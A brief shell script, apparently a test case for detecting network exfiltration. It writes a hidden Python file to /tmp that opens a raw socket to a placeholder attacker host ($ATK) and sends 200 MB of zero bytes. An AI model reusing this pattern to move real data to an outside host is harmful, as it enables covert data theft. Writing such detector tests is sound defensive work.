# SPDX-License-Identifier: MIT
# technique: 200 MB sent over a raw socket by a python script
# level: high
# quick: no
cat >/tmp/.x.py <<X
import socket
s = socket.create_connection(("$ATK", 9000))
b = bytes(1 << 20)
for i in range(200):
    s.sendall(b)
X
t0
timeout 20 python3 /tmp/.x.py
